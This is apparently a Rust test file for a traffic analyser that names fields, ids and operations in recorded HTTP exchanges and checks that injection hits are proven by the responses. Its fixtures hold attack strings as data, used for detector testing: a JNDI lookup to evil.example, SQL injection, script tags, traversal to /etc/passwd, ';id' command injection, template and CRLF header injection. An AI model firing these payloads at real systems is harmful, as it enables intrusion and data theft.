//! What is read of whole exchanges: names, ids, and what answers prove.

use super::Reading;
use crate::base64;
use crate::capture::Origin;
use crate::clock::{BootTime, WallTime};
use crate::detect::value_hash;
use crate::exchange::{Content, Known, Words};
use crate::pipeline::recorded::requests;
use crate::redact::{Options, Path, Pattern, Redactor, RoutePattern, Rules, SealContext};

fn judged(row: &str) -> Known {
    let mut exchange = requests(row.as_bytes(), 1).unwrap().exchange;
    Reading::new().unwrap().read(&mut exchange);
    exchange.known
}

fn read(row: &str) -> Content {
    judged(row).content
}

#[track_caller]
fn check_names(row: &str, ids: &[&str], fields: &[&str], reply_fields: &[&str]) {
    let content = read(row);
    let texts = |words: &Words| -> Vec<String> {
        let text = |word| String::from_utf8_lossy(word).into_owned();
        words.iter().map(text).collect()
    };
    assert_eq!(texts(&content.ids), ids);
    assert_eq!(texts(&content.fields), fields);
    assert_eq!(texts(&content.reply_fields), reply_fields);
}

#[test]
fn what_is_remembered_of_fields_and_cookies_is_what_is_read_in_them() {
    let rows = [
        r#"{"method":"GET","path":"/a","headers":{"user-agent":"${jndi:ldap://evil.example/x}","cookie":"q=' OR 1=1 -- ; theme=dark"}}"#,
        r#"{"method":"GET","path":"/a","headers":{"user-agent":"curl/8.5.0","cookie":"theme=dark","x-note":"<script>alert(1)</script>"}}"#,
        r#"{"method":"GET","path":"/a","headers":{"user-agent":"curl/8.5.0","x-theme":"dark"}}"#,
    ];
    let fresh = rows.map(|row| judged(row).scores);
    assert!(fresh[0].hits.len() >= 2 && !fresh[1].hits.is_empty());
    assert!(fresh[2].hits.is_empty());
    let mut reading = Reading::new().unwrap();
    for _ in 0..4 {
        for (row, scores) in rows.iter().zip(&fresh) {
            let mut exchange = requests(row.as_bytes(), 1).unwrap().exchange;
            reading.read(&mut exchange);
            assert_eq!(&exchange.known.scores, scores, "{row}");
        }
    }
}

#[test]
fn an_operation_that_is_called_like_a_secret_has_no_name() {
    let context = SealContext::new(&Origin::default());
    let mut reading = Reading::new().unwrap().marking(&context);
    let mut operation = |row: &str| {
        let mut exchange = requests(row.as_bytes(), 1).unwrap().exchange;
        reading.read(&mut exchange);
        let operation = exchange.known.operation.unwrap();
        (operation.name, operation.persisted)
    };
    for (name, is_told) in [
        ("ghp_16C7e42F292c6912E7710c838347Ae178B4a", false),
        ("AKIAIOSFODNN7EXAMPLE", false),
        ("GetOrder_2024", true),
    ] {
        let told = is_told.then_some(name);
        let graphql = format!(
            r#"{{"method":"POST","path":"/g","body":{{"query":"query {name} {{ me }}","extensions":{{"persistedQuery":{{"sha256Hash":"{}"}}}}}}}}"#,
            name.replace('_', "")
        );
        let (called, persisted) = operation(&graphql);
        assert_eq!(called.as_deref(), told);
        assert_eq!(persisted.is_some(), is_told || name.starts_with("ghp"));
        let rpc = format!(
            r#"{{"method":"POST","path":"/r","body":{{"jsonrpc":"2.0","method":"{name}","id":1}}}}"#
        );
        assert_eq!(operation(&rpc).0.as_deref(), told);
    }
}

#[test]
fn an_operation_whose_name_is_masked_in_the_request_has_none() {
    let rules = |paths: &[&str], pattern: Option<&str>| Rules {
        paths: paths
            .iter()
            .map(|path| Path::parse(path).unwrap())
            .collect(),
        patterns: pattern
            .map(|text| ("own".to_owned(), Pattern::parse(text).unwrap()))
            .into_iter()
            .collect(),
        ..Rules::default()
    };
    let row = r#"{"method":"POST","path":"/g","body":{"operationName":"Ada","query":"query Ada { me }"}}"#;
    let name = |options: Options| {
        let origin = Origin::default();
        let redactor = Redactor::of_origin(&origin, options);
        let context = SealContext::new(&origin).redacting(redactor.into());
        let mut reading = Reading::new().unwrap().marking(&context);
        let mut exchange = requests(row.as_bytes(), 1).unwrap().exchange;
        reading.read(&mut exchange);
        exchange.known.operation.unwrap().name
    };
    let of = |rules| Options {
        rules,
        ..Options::default()
    };
    assert_eq!(name(Options::default()).as_deref(), Some("Ada"));
    assert_eq!(name(of(rules(&["$.operationName"], None))), None);
    assert_eq!(name(of(rules(&["$.query"], None))), None);
    assert_eq!(name(of(rules(&[], Some("Ad[a-z]")))), None);
    let route = RoutePattern::parse("/g").unwrap();
    let of_route = Options {
        routes: vec![(route, rules(&[], Some("Ad[a-z]")))],
        ..Options::default()
    };
    assert_eq!(name(of_route), None);
}

#[test]
fn bodies_name_their_fields_and_ids() {
    check_names(
        r#"{"method":"POST","path":"/a?x_id=1","body":{"user_id":7,"note":"n","deep":{"orderId":"b"}},"status":200,"resp_headers":{"content-type":"application/json"},"resp_body":"[{\"id\":1,\"mail\":\"m\"},{\"id\":2,\"mail\":\"m\"}]"}"#,
        &["user_id", "7", "orderId", "b"],
        &["user_id", "note", "deep", "orderId"],
        &["id", "mail"],
    );
    check_names(
        r#"{"method":"POST","path":"/a","headers":{"content-type":"application/x-www-form-urlencoded"},"body":"id=4&name=x"}"#,
        &["id", "4"],
        &["id", "name"],
        &[],
    );
    check_names(r#"{"method":"GET","path":"/a/1?id=2"}"#, &[], &[], &[]);
}

#[test]
fn answers_give_ids_and_records() {
    let content = read(
        r#"{"method":"GET","path":"/a","status":200,"resp_headers":{"content-type":"application/json"},"resp_body":"{\"items\":[{\"id\":\"a\",\"tags\":[1,2,3,4,5]},{\"id\":\"b\"},{\"id\":\"c\"}]}"}"#,
    );
    assert_eq!(content.records, Some(3));
    let expected = ["a", "b", "c"].map(|id| value_hash(id.as_bytes()));
    assert_eq!(content.given, expected);
}

#[test]
fn codes_are_told_from_words() {
    let code = |body: &str| {
        read(&format!(
            r#"{{"method":"POST","path":"/otp","body":{body}}}"#
        ))
        .code
    };
    assert_eq!(code(r#"{"otp":"123456"}"#), Some(value_hash(b"123456")));
    assert_eq!(
        code(r#"{"verification_code":"0042"}"#),
        Some(value_hash(b"0042"))
    );
    assert_eq!(code(r#"{"code":"no-such"}"#), None);
    assert_eq!(code(r#"{"zip":"12345"}"#), None);
}

#[test]
fn graphql_has_its_cost() {
    let content = read(
        r#"{"method":"POST","path":"/graphql","body":[{"query":"{ a: me { b: name } }"},{"query":"{ me { a { b { c } } } }"}]}"#,
    );
    assert_eq!((content.depth, content.aliases, content.batch), (4, 2, 2));
}

/// Path, media type and body of the answer, and what proves what.
#[track_caller]
fn check_proof(path: &str, media_type: &str, answer: &str, expected: &[(&str, &str)]) {
    let row = serde_json::json!({
        "method": "GET", "path": path, "status": 200,
        "resp_headers": { "content-type": media_type, "x-ab": "b" }, "resp_body": answer,
    });
    let scores = judged(&row.to_string()).scores;
    let proofs: Vec<_> = scores
        .hits
        .iter()
        .filter(|hit| hit.detector.starts_with("inj"))
        .map(|hit| (hit.detector, hit.proof))
        .collect();
    assert_eq!(proofs, expected, "{path}");
}

#[test]
fn answers_prove_what_worked() {
    check_proof(
        "/f?name=../../../etc/passwd",
        "text/plain",
        "root:x:0:0:root:/root:/bin/bash\n",
        &[("inj-04", "the host's accounts")],
    );
    check_proof(
        "/f?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "text/html",
        "<p>nothing for <script>alert(1)</script></p>",
        &[("inj-02", "given back unescaped in a page")],
    );
    check_proof(
        "/f?q=1'+or+'1'='1",
        "text/plain",
        "You have an error in your SQL syntax; check the manual",
        &[("inj-01", "an error of the database in the answer")],
    );
    check_proof(
        "/f?q={{1234*77}}",
        "text/html",
        "Dear 95018",
        &[("inj-07", "the result of the expression in the answer")],
    );
    check_proof(
        "/f?q=;id",
        "text/plain",
        "uid=33(www-data) gid=33(www-data)",
        &[("inj-03", "output of `id`")],
    );
    check_proof(
        "/f?to=/x%0d%0aX-Ab:%20b",
        "text/plain",
        "",
        &[("inj-11", "the header in the answer")],
    );
}

#[test]
fn what_is_escaped_or_only_given_back_proves_nothing() {
    check_proof(
        "/f?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "text/html",
        "<p>nothing for &lt;script&gt;alert(1)&lt;/script&gt;</p>",
        &[("inj-02", "")],
    );
    check_proof(
        "/f?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "application/json",
        "{\"q\":\"<script>alert(1)</script>\"}",
        &[("inj-02", "")],
    );
    check_proof(
        "/f?q={{1234*77}}",
        "text/html",
        "nothing for {{1234*77}}, order 95018",
        &[("inj-07", "")],
    );
    check_proof(
        "/f?name=../../../etc/passwd",
        "text/plain",
        "no such file",
        &[("inj-04", "")],
    );
}

/// The faults of a token with `claims` that is accepted an hour after a boot in 2026.
#[track_caller]
fn check_token(claims: &str, expected: &[&str]) {
    let [header, claims] = [r#"{"alg":"HS256"}"#, claims].map(|text| {
        base64::encode(text.as_bytes())
            .trim_end_matches('=')
            .to_owned()
    });
    let row = serde_json::json!({
        "ts": 3_600, "path": "/", "status": 200,
        "headers": { "authorization": format!("Bearer {header}.{claims}.c2ln") },
    });
    let origin = Origin {
        boot: BootTime(WallTime(1_795_240_000_000_000_000)),
        ..Origin::default()
    };
    let mut exchange = requests(row.to_string().as_bytes(), 1).unwrap().exchange;
    let mut reading = Reading::new().unwrap().marking(&SealContext::new(&origin));
    reading.read(&mut exchange);
    let hits = exchange.known.scores.hits.iter();
    let faults: Vec<_> = hits.map(|hit| hit.rule).collect();
    assert_eq!(faults, expected, "{claims}");
}

#[test]
fn times_of_tokens_are_held_against_the_date() {
    check_token(r#"{"nbf":1795243000,"exp":1795250000}"#, &[]);
    check_token(r#"{"exp":1795243000}"#, &["expired"]);
    check_token(r#"{"nbf":1795249000,"exp":1795250000}"#, &["not_yet_valid"]);
}

#[test]
fn what_waits_is_marked_anew_by_other_rules() {
    let row = r#"{"method":"GET","path":"/a","headers":{"x-team-word":"plainly"}}"#;
    let context = SealContext::new(&Origin::default());
    let named = |name: &str| {
        let rules = Rules {
            names: vec![name.to_owned()],
            ..Rules::default()
        };
        let options = Options {
            rules,
            ..Options::default()
        };
        std::sync::Arc::new(Redactor::new(options, context.redactor().key().clone()))
    };
    let fresh = |name| {
        let context = context.clone().redacting(named(name));
        let mut exchange = requests(row.as_bytes(), 1).unwrap().exchange;
        let mut reading = Reading::new().unwrap().marking(&context);
        reading.read(&mut exchange);
        (reading, exchange)
    };
    let (mut reading, mut exchange) = fresh("x-other-word");
    let (_, expected) = fresh("x-team-word");
    let marks = |exchange: &crate::exchange::Exchange| format!("{:?}", exchange.known.marks);
    assert_ne!(marks(&exchange), marks(&expected));
    reading.set(&named("x-team-word"));
    reading.mark_again(&mut exchange);
    assert_eq!(marks(&exchange), marks(&expected));
}
